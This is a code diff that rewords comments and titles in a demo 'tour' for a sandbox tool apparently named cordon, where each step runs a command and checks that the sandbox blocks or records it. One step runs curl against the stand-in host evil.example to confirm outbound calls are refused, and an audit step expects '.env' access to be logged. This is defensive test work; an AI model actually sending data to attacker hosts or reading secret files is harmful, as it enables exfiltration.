@@ -14,7 +14,7 @@ export interface TourStep {
   readonly title: string
   /** The words after `cordon`; null for the ask, which an agent's session puts. */
   readonly words: readonly string[] | null
-  /** What holds afterwards, in words, and whether it does; looked at outside the sandbox. */
+  /** What holds afterwards, in words, and whether it does; checked outside the sandbox. */
   readonly promise: string
   readonly holds: (place: TourPlace, ran: TourRan) => boolean
 }
@@ -70,7 +70,7 @@ export const TOUR: readonly TourStep[] = [
     holds: ({ base, home }) => read(join(home, '.profile')) === PROFILE && read(join(base, 'notes/todo.txt')) === NOTE,
   },
   {
-    title: 'It sends something to a host that nobody granted',
+    title: 'It sends something to a host that is not allowed',
     words: ['run', '--', 'sh', '-c', 'curl -sS https://evil.example || getent hosts evil.example'],
     promise: 'nothing left, and the host was named',
     holds: (_, { code, text }) => code !== 0 && text.includes('evil.example'),
@@ -102,7 +102,7 @@ export const TOUR: readonly TourStep[] = [
   {
     title: 'What happened is on record',
     words: ['audit', 'tail'],
-    promise: 'every call is there',
+    promise: 'every call is recorded',
     holds: (_, { text }) => text.includes('.env') && text.includes('evil.example'),
   },
   {
